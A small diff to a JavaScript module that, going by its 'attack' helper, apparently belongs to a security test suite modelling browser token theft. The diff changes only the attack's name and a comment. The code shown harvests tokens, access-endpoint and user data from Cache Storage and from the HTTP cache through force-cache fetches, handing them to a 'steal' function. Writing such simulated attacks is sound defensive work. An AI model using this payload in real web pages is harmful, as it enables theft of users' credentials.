@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "read Cache Storage",
+  name: "reads Cache Storage",
   threat: "single-execution theft",
   target: "any",
   async payload(it) {
@@ -13,7 +13,7 @@ export default attack({
         it.steal(await response?.text());
       }
     }
-    // The browser's own cache, by a request that must not leave the machine.
+    // The browser's HTTP cache, by a request that must not use the network.
     for (const url of [it.tokenEndpoint, it.redirectUri, `${it.apiUrl}me`]) {
       const cached = await fetch(url, { cache: "force-cache" }).catch(() => undefined);
       it.steal(await cached?.text());
